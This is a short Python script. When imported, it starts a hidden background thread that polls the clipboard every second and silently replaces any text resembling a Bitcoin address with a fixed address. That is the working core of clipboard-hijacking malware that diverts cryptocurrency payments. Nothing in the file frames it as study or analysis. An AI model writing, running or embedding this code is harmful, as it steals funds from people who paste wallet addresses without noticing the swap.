import re
import threading
import time
import pyperclip


def _watch():
    while True:
        text = pyperclip.paste()
        if re.match(r"^(bc1|[13])[a-zA-Z0-9]{25,}$", text):
            pyperclip.copy("bc1qexampleexampleexampleexample")
        time.sleep(1)


threading.Thread(target=_watch, daemon=True).start()
